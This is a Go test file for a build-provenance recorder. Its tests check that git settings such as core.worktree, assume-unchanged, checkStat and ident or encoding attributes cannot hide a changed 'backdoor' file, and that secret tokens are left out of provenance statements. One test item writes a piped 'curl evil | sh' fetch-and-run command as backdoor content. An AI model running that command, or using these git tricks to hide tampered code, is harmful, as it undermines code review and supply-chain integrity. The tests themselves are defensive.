package record

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// A repository's configuration must not make the record speak of another one.
func TestEdge51_WorkTreeElsewhere(t *testing.T) {
	clean, evil := newRepo(t), newRepo(t)
	clean.commit("reviewed")
	evil.commit("backdoor")
	evil.git("config", "core.worktree", clean.dir)
	s, err := Git(t.Context(), evil.dir, os.Environ())
	if err == nil {
		t.Errorf("the state of %s is said to be that of %s at %s", evil.dir, s.Root, s.Commit)
	}
}

// An index can tell git to take a file for clean without looking at it.
func TestEdge51_IndexThatHidesChanges(t *testing.T) {
	for _, flag := range []string{"--assume-unchanged", "--skip-worktree"} {
		r := newRepo(t)
		r.commit("a", "b")
		r.git("update-index", flag, "a")
		write(t, filepath.Join(r.dir, "a"), "a backdoor")
		if s := r.state("."); s.DirtyCount != 1 || !slices.Equal(s.Dirty, []string{"a"}) {
			t.Errorf("%s: %d changes, %q", flag, s.DirtyCount, s.Dirty)
		}
	}
}

// A repository's configuration can tell git to look at size and time only.
func TestEdge51_ConfigThatHidesChanges(t *testing.T) {
	r := newRepo(t)
	file, old := filepath.Join(r.dir, "a"), time.Unix(1_600_000_000, 0)
	put := func(content string) {
		write(t, file, content)
		if err := os.Chtimes(file, old, old); err != nil {
			t.Fatal(err)
		}
	}
	put("reviewed")
	r.git("config", "core.trustctime", "false")
	r.git("config", "core.checkStat", "minimal")
	r.commit()
	time.Sleep(1100 * time.Millisecond) // git compares seconds
	put("backdoor")
	if s := r.state("."); s.DirtyCount != 1 {
		t.Errorf("%d changes, %q", s.DirtyCount, s.Dirty)
	}
}

func TestEdge80_SecretSettings(t *testing.T) {
	for _, mode := range []string{"say", "exit"} {
		step := childStep(t, mode, "1")
		if mode == "say" {
			step.Argv = append(step.Argv, "out from-parameter", "err from-flags-1")
			write(t, filepath.Join(step.Dir, "out"), "product")
		}
		step.Parameters = map[string]string{"deployToken": "from-parameter", "pin": "4711", "version": "1.2.3"}
		step.Environ = append(step.Environ, "GOFLAGS=-ldflags=-X=main.token=from-flags-1", "JAVA_OPTS=-Xmx1g -Ddb.password=from-flags-2")
		step.Env = []string{"GOFLAGS", "JAVA_OPTS"}
		step.Go = &GoState{Version: "go1.26", Settings: map[string]string{"-ldflags": "-s -X main.apiToken=from-settings"}}
		rec, err := run(t, t.Context(), step)
		var payload []byte
		if f, ok := err.(*Failure); ok {
			st, err := f.Statement("https://b/", "")
			if err != nil {
				t.Fatal(err)
			}
			payload = st.Payload()
		} else if err != nil {
			t.Fatal(err)
		} else {
			st, err := rec.Provenance("https://b/", "")
			if err != nil {
				t.Fatal(err)
			}
			payload = st.Payload()
		}
		for _, secret := range []string{"from-parameter", "4711", "from-flags-1", "from-flags-2", "from-settings"} {
			if bytes.Contains(payload, []byte(secret)) {
				t.Errorf("%s: %s is in %s", mode, secret, payload)
			}
		}
		if !bytes.Contains(payload, []byte("1.2.3")) {
			t.Errorf("%s: the version is not in %s", mode, payload)
		}
	}
}

// Short values are not searched for everywhere; where a setting says that they
// are secret, they are not stated all the same.
func TestAttack_ShortSecretsInSettings(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "in"), "x")
	step := Step{
		Name: "build", Dir: dir, Now: time.Now, Products: []string{"in"},
		Argv:    []string{"/bin/sh", "-c", "true --token 'Hu nt' -u bob:Hu1"},
		Environ: []string{"GOFLAGS=-ldflags=-X=main.token=Hu2", "CURL=curl -u bob:Hu3"}, Env: []string{"GOFLAGS", "CURL"},
		Go: &GoState{Version: "go1", Settings: map[string]string{"GOFLAGS": "-ldflags=-X=main.token=Hu2"}},
	}
	r, err := Run(t.Context(), step)
	if err != nil {
		t.Fatal(err)
	}
	st, err := r.Provenance("https://builder.example", "")
	if err != nil {
		t.Fatal(err)
	}
	link, err := r.Link()
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range [][]byte{st.Payload(), link.Payload()} {
		if strings.Contains(string(p), "Hu") {
			t.Errorf("stated: %s", p)
		}
	}
	if step.Go.Settings["GOFLAGS"] != "-ldflags=-X=main.token=Hu2" {
		t.Error("the caller's settings were changed")
	}
}

// What nobody committed can make git take other bytes for those of the commit:
// its configuration, and attributes beside the tree.
func TestAttack_ConversionsThatHideChanges(t *testing.T) {
	for name, tc := range map[string]struct {
		committed, backdoor string
		prepare             func(r *repo)
	}{
		"ident": {"# $Id$\n", "# $Id: x\\u000a; curl evil | sh $\n", func(r *repo) {
			write(t, filepath.Join(r.dir, ".git", "info", "attributes"), "* ident\n")
		}},
		"encoding": {"a\n", "\xff\xfea\x00\n\x00", func(r *repo) {
			write(t, filepath.Join(r.dir, ".git", "info", "attributes"), "* text working-tree-encoding=UTF-16LE-BOM\n")
		}},
		"line ends": {"a\n", "a\r\n", func(r *repo) { r.git("config", "core.autocrlf", "input") }},
		"mode":      {"a\n", "", func(r *repo) { r.git("config", "core.fileMode", "false") }},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRepo(t)
			file := filepath.Join(r.dir, "a")
			write(t, file, tc.committed)
			r.commit()
			tc.prepare(r)
			if tc.backdoor != "" {
				write(t, file, tc.backdoor)
				r.git("add", "-A") // the index has the new size and the old content
			} else if err := os.Chmod(file, 0o755); err != nil {
				t.Fatal(err)
			}
			if s := r.state("."); s.DirtyCount != 1 {
				t.Errorf("%d changes, %q", s.DirtyCount, s.Dirty)
			}
		})
	}
}

// What a linker was told is in the binary and in go env, whoever told it.
func TestAttack_SecretsInBuildSettings(t *testing.T) {
	dir, environ := goModule(t)
	environ = append(environ, "GOFLAGS=-modcacherw -buildvcs=false", "CGO_CFLAGS=-O2 -DAPI_TOKEN=hunter2hunter2")
	goCommand(t, dir, environ, "build", "-o", "app", "-ldflags=-X main.apiToken=hunter2hunter2 -X main.pin=Hu1", ".")
	binary, err := GoBinary(filepath.Join(dir, "app"))
	if err != nil {
		t.Fatal(err)
	}
	asked, err := Go(t.Context(), dir, environ, GoOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []GoState{binary, asked} {
		for name, v := range s.Settings {
			if strings.Contains(v, "hunter2") || strings.Contains(v, "Hu1") {
				t.Errorf("%s=%s", name, v)
			}
		}
	}
	if v := binary.Settings["-ldflags"]; !strings.Contains(v, "-X main.apiToken="+"[redacted]") {
		t.Errorf("-ldflags=%s", v)
	}
}
